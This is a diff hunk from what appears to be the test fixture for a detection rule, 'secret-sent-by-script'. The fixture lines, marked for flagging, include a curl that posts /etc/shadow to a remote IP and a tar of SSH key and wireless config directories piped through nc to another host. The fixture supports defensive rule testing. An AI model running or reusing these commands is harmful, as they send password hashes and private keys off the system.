@@ -2,7 +2,7 @@
 curl -s -d "$(cat /etc/shadow)" http://198.51.100.4/u
 
 # ruleid: secret-sent-by-script
-tar cz /root/.ssh/ /etc/config/wireless | nc 203.0.113.8 9000
+tar cz /home/app/.ssh/ /etc/config/wireless | nc 203.0.113.8 9000
 
 # ruleid: secret-sent-by-script
 mac=$(cat /sys/class/net/eth0/address | tr -d :)
